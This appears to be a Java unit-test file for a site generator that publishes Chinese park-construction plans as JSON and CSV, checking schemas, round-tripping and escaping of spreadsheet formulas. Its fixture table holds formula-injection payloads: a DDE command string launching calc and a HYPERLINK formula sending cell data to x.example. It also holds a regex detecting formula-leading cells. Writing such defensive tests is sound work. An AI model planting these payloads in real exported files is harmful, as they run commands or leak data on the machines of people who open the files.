package dev.jianbao;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import dev.harrel.jsonschema.Validator;
import dev.harrel.jsonschema.ValidatorFactory;
import dev.harrel.jsonschema.providers.SnakeYamlNode;
import dev.jianbao.pages.PlanFile;
import dev.jianbao.plan.table.Cell;
import dev.jianbao.plan.table.CellState;
import dev.jianbao.plan.table.Column;
import dev.jianbao.plan.table.Project;
import dev.jianbao.plan.table.ProjectTable;
import java.io.IOException;
import java.io.InputStream;
import java.net.URI;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Objects;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;

/** The files of data keep their schemas, are safe to open, and lose nothing. */
@ExtendWith(BuiltSites.Extension.class)
class DataFilesTest {
    private static final Path DEMONSTRATION = Path.of("src/test/resources/sites/plan");
    private static final String PLAN = "content/plans/greening-2023/";
    private static final String OUT = "plans/greening-2023/";
    private static final Pattern PLAIN_NUMBER = Pattern.compile("-?[0-9][0-9,]*(\\.[0-9]+)?%?");

    /** Everything a cell can be, and what a spreadsheet must not work out. */
    private static final String ODD_PROJECTS = String.join(
            "\r\n",
            "序号,公园,植树（株）,面积（公顷）,投资（万元）,建设主体,备注",
            ",市级公园,,,,,",
            "小计（3所）,,\"10,500\",?,'=2600 ; 1600+1000 ; 两行之和,,",
            "1,北苑,6000,18,1600,园林局,\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"点\"\") ; 原文\"",
            "2,\"'-2+3+cmd|' /C calc'!A0\",4500,=12 ; 30-18 ; 小计减已知,1000,,'@SUM(1)",
            "3,?,?（印有45）,15亩,-12.50,?,\"两行",
            "文字，有\"\"引号\"\"\"",
            "口袋公园,,,,,,",
            "1,东巷,—,/,120（含设计）,'+86 10,'''=x",
            "2,=西巷 ; 据附图,0.05万,1,130,,-",
            "合计,,,,,,");

    @TempDir
    private Path folder;

    private static SiteFiles demonstration() {
        return SiteFiles.below(DEMONSTRATION);
    }

    private static SiteFiles odd() {
        return demonstration()
                .replacing(PLAN + "plan.md", "count: 5座", "numbering: none")
                .replacing(PLAN + "plan.md", "新建公园[5座]{count=\"projects\"}", "新建公园5座")
                .replacing(
                        PLAN + "plan.md",
                        "    - { id: cost, name: 投资, type: money, unit: 万元, sum: true }",
                        "    - { id: cost, name: 投资, type: money, unit: 万元, sum: true }\n"
                                + "    - { id: builder, name: 建设主体, merged: true }\n"
                                + "    - { id: note, name: 备注 }")
                .replacing(PLAN + "plan.md", "accepted:\n  - { check: projects.pocket.cost, why: 原表如此 }\n", "")
                .replacing(PLAN + "measures.yaml", "title: 立法", "title: \"=1+1\", text: \"?\"")
                .replacing(PLAN + "measures.yaml", "deadline: ongoing", "deadline: \"?\"")
                .replacing(PLAN + "plan.md", "issuer: 园林局", "issuer: \"?\"")
                .replacing(PLAN + "indicators.yaml", "target: 42", "target: \"=42 ; 40+2 ; 附表\"")
                .with(PLAN + "projects.csv", ODD_PROJECTS);
    }

    @ParameterizedTest
    @EnumSource
    void documentsKeepTheirSchemas(TestSite site, BuiltSites sites) throws IOException {
        assertThat(faults(sites.of(site).output())).isEmpty();
    }

    @Test
    void plansKeepTheirSchemas() throws IOException {
        SiteFiles plain =
                BuiltSite.build(demonstration(), folder.resolve("plain")).output();
        SiteFiles odd = BuiltSite.build(odd(), folder.resolve("odd")).output();

        assertThat(plain.files()).containsKeys(OUT + "plan.json", OUT + "projects.json", "schemas/plan-1.json");
        assertThat(faults(plain)).isEmpty();
        assertThat(faults(odd)).isEmpty();
    }

    @Test
    void theSchemaRefusesWhatIsWrong() throws IOException {
        String plan = BuiltSite.build(demonstration(), folder).output().text(OUT + "plan.json");

        assertThat(faults(validator(), "plan-1.json", plan.replace("\"state\": \"lost\"", "\"state\": \"gone\"")))
                .isNotEmpty();
        assertThat(faults(validator(), "plan-1.json", plan.replace("\"asOf\"", "\"as_of\"")))
                .isNotEmpty();
        assertThat(faults(validator(), "plan-1.json", plan.replace("\"known\"", "\"computed\"")))
                .isNotEmpty();
    }

    private static List<String> faults(SiteFiles output) throws IOException {
        Validator validator = validator();
        List<String> faults = new ArrayList<>();
        for (String path : output.files().keySet()) {
            if (path.endsWith(".json") && !path.startsWith("schemas/") && !ofOthers(path)) {
                String schema = path.endsWith("/plan.json")
                        ? "plan-1.json"
                        : path.endsWith("/projects.json") ? "projects-1.json" : "issue-1.json";
                assertThat(output.text(path)).contains("/schemas/" + schema);
                faults(validator, schema, output.text(path)).forEach(fault -> faults.add(path + fault));
            }
        }
        return faults;
    }

    /** Files whose form is not ours: feeds, lists of references. */
    private static boolean ofOthers(String path) {
        return path.endsWith("feed.json") || path.endsWith("/cite.json");
    }

    private static List<String> faults(Validator validator, String schema, String document) {
        return validator
                .validate(URI.create("urn:jianbao:schema:" + schema.replace(".json", "")), document)
                .getErrors()
                .stream()
                .map(error -> error.getInstanceLocation() + ": " + error.getError())
                .toList();
    }

    private static Validator validator() throws IOException {
        Validator validator = new ValidatorFactory()
                .withJsonNodeFactory(new SnakeYamlNode.Factory())
                .createValidator();
        for (String name : List.of("plan-1", "projects-1", "issue-1")) {
            validator.registerSchema(URI.create("urn:jianbao:schema:" + name), schema(name + ".json"));
        }
        return validator;
    }

    private static String schema(String name) throws IOException {
        try (InputStream in = DataFilesTest.class.getResourceAsStream("/dev/jianbao/render/data/" + name)) {
            return new String(Objects.requireNonNull(in).readAllBytes(), UTF_8);
        }
    }

    @Test
    void projectsThatWereDownloadedCanBeReadAgain() {
        BuiltSite first = BuiltSite.build(odd(), folder.resolve("first"));
        String exported = first.output().text(OUT + "projects.csv");
        BuiltSite second = BuiltSite.build(odd().with(PLAN + "projects.csv", exported), folder.resolve("second"));

        assertThat(lines(table(second))).isEqualTo(lines(table(first)));
        assertThat(lines(table(first)))
                .contains("INFERRED 西巷 据附图", "LOST ? 印有45", "MERGED 园林局")
                .contains("GIVEN -2+3+cmd|' /C calc'!A0", "GIVEN ''=x", "GIVEN 15亩 15亩", "GIVEN -12.50 -12.50万元");
        assertThat(second.output().text(OUT + "projects.csv")).isEqualTo(exported);
    }

    @Test
    void theBudgetThatWasDownloadedCanBeReadAgain() {
        BuiltSite first = BuiltSite.build(demonstration(), folder.resolve("first"));
        String exported = first.output().text(OUT + "budget.csv");
        BuiltSite second = BuiltSite.build(
                demonstration().with(PLAN + "budget.csv", exported).replacing(PLAN + "plan.md", "{ unit: 万元 }", "{}"),
                folder.resolve("second"));

        assertThat(exported).isEqualTo("\uFEFF项目名称,具体内容,金额（万元）\r\n建设,公园,2600\r\n养护,古树,?\r\n合计,,3000\r\n");
        assertThat(second.output().text(OUT + "budget.csv")).isEqualTo(exported);
    }

    private static ProjectTable table(BuiltSite site) {
        return site.plan().archive().plans().all().get(0).plan().projects().orElseThrow();
    }

    /** What the cells say, and how far that is known; the stage, which may stand in a row of its own, beside them. */
    private static List<String> lines(ProjectTable table) {
        List<String> lines = new ArrayList<>();
        for (Project project : table.projects()) {
            lines.add(project.stage().map(each -> each.id()).orElse("-"));
            add(project.cells(), table, lines);
        }
        table.subtotals().forEach(each -> {
            lines.add(each.stage().map(stage -> stage.id()).orElse("-")
                    + each.label()
                    + each.declared().map(located -> located.value())
                    + each.after());
            add(each.cells(), table, lines);
        });
        return lines;
    }

    private static void add(List<Cell> cells, ProjectTable table, List<String> lines) {
        for (int i = 0; i < cells.size(); i++) {
            if (table.columns().get(i).role() != Column.Role.STAGE) {
                lines.add(line(cells.get(i)));
            }
        }
    }

    private static String line(Cell cell) {
        String rule = cell instanceof Cell.Inferred inferred
                ? " " + inferred.rule() + inferred.words().orElse("")
                : "";
        String text = cell.isLost() ? "?" : cell.text();
        String remark = cell.remark().map(each -> " " + each).orElse("");
        return cell.state() + " " + text
                + cell.quantity().map(each -> " " + each).orElse("") + remark + rule;
    }

    @Test
    void noCellIsAFormula() {
        SiteFiles output = BuiltSite.build(odd(), folder).output();
        List<String> tables = output.files().keySet().stream()
                .filter(path -> path.endsWith(".csv"))
                .toList();

        assertThat(tables).hasSizeGreaterThanOrEqualTo(5);
        for (String path : tables) {
            String text = output.text(path);
            assertThat(text).startsWith("\uFEFF").endsWith("\r\n").doesNotContain("\n\uFEFF");
            assertThat(cells(text.substring(1)))
                    .as(path)
                    .noneMatch(cell -> cell.matches("(?s)[\\s\\p{Cf}\\p{Z}]*[=+\\-@\\t\\r＝＋－＠].*")
                            && !PLAIN_NUMBER.matcher(cell).matches())
                    .noneMatch(cell -> cell.startsWith("\t"));
        }
        assertThat(output.text(OUT + "projects.csv"))
                .contains(",-12.50,")
                .contains("'=12 ; 30-18 ; 小计减已知")
                .contains("'-2+3+cmd|' /C calc'!A0");
        assertThat(output.text(OUT + "measures.csv")).contains(",'=1+1,?,");
    }

    @Test
    void everyFileOfAPlanIsPublished() {
        BuiltSite site = BuiltSite.build(demonstration(), folder);

        for (PlanFile file : PlanFile.values()) {
            assertThat(site.output().files())
                    .containsKey(file.path(
                            site.plan().archive().plans().all().get(0).plan().id()));
        }
        assertThat(table(site).projects().get(1).cells()).anyMatch(cell -> cell.state() == CellState.INFERRED);
    }

    /** The cells of a file, read by the letter of RFC 4180. */
    private static List<String> cells(String text) {
        List<String> cells = new ArrayList<>();
        StringBuilder cell = new StringBuilder();
        boolean quoted = false;
        for (int at = 0; at < text.length(); at++) {
            char each = text.charAt(at);
            if (each == '"') {
                boolean doubled = quoted && at + 1 < text.length() && text.charAt(at + 1) == '"';
                quoted = doubled || !quoted;
                if (doubled) {
                    cell.append('"');
                    at++;
                }
            } else if (!quoted && (each == ',' || each == '\n')) {
                cells.add(cell.toString());
                cell.setLength(0);
            } else if (quoted || each != '\r') {
                cell.append(each);
            }
        }
        return cells;
    }
}
